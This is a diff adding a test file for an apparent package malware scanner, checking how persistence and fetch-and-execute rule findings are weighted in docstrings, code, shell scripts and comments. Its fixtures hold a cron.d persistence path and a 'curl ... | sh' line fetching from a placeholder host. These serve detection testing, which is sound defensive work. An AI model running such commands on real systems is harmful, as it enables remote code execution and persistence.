@@ -1,0 +1,56 @@
+"""Where YARA evidence sits decides how much it counts: comments and docstrings of modules the
+scanner did not parse, and scripts shipped beside the package (run only if something runs them)."""
+
+from __future__ import annotations
+
+from snakewarden.analysis.context import Role, ScanContext, phase_factor
+from snakewarden.analysis.registry import builtin_rules
+from snakewarden.artifacts import artifact_from_files
+from snakewarden.core.models import Phase
+
+RULES = {rule.meta.id: rule for rule in builtin_rules()}
+
+
+def _reader(data: bytes):
+    return lambda n: data[:n]
+
+
+def context(files: dict[str, str]) -> ScanContext:
+    files = {"pyproject.toml": "", **files}
+    entries = [(p, len(t.encode()), _reader(t.encode())) for p, t in files.items()]
+    return ScanContext(artifact_from_files("demo", entries))
+
+
+def test_docstring_of_an_unparsed_module_is_commentary() -> None:
+    doc = '"""Refuse patches that write outside the tree, such as /etc/cron.d/job."""\n'
+    ctx = context({"pkg/__init__.py": "", "pkg/patch.py": doc + "LIMIT = 1\n" * 3000})
+    member = next(m for m in ctx.artifact.members if m.path.endswith("patch.py"))
+    assert ctx.source(member) is None  # big and without capabilities: not parsed
+    findings = list(RULES["persistence"].check(ctx))
+    assert findings
+    assert all("comment/docstring" in f.message for f in findings)
+
+
+def test_code_of_an_unparsed_module_is_not_commentary() -> None:
+    code = 'TARGET = "/etc/cron.d/job"\n'
+    ctx = context({"pkg/__init__.py": "", "pkg/jobs.py": code + "LIMIT = 1\n" * 3000})
+    findings = list(RULES["persistence"].check(ctx))
+    assert findings
+    assert not any("comment/docstring" in f.message for f in findings)
+
+
+def test_shell_script_beside_the_package_counts_as_a_script() -> None:
+    script = "#!/bin/sh\ncurl -sSf https://tools.example.invalid/install.sh | sh\n"
+    ctx = context({"pkg/__init__.py": "", "build-wheels.sh": script})
+    findings = list(RULES["shell-fetch-exec"].check(ctx))
+    assert findings
+    cap = 0.65 * phase_factor(Phase.RUNTIME, Role.SCRIPT)
+    assert all(f.weight <= round(cap, 4) for f in findings)
+
+
+def test_shell_comment_is_commentary() -> None:
+    script = "#!/bin/sh\n# do not run: curl -sSf https://tools.example.invalid/x.sh | sh\nexit 0\n"
+    ctx = context({"pkg/__init__.py": "", "notes.sh": script})
+    findings = list(RULES["shell-fetch-exec"].check(ctx))
+    assert findings
+    assert all("comment/docstring" in f.message for f in findings)
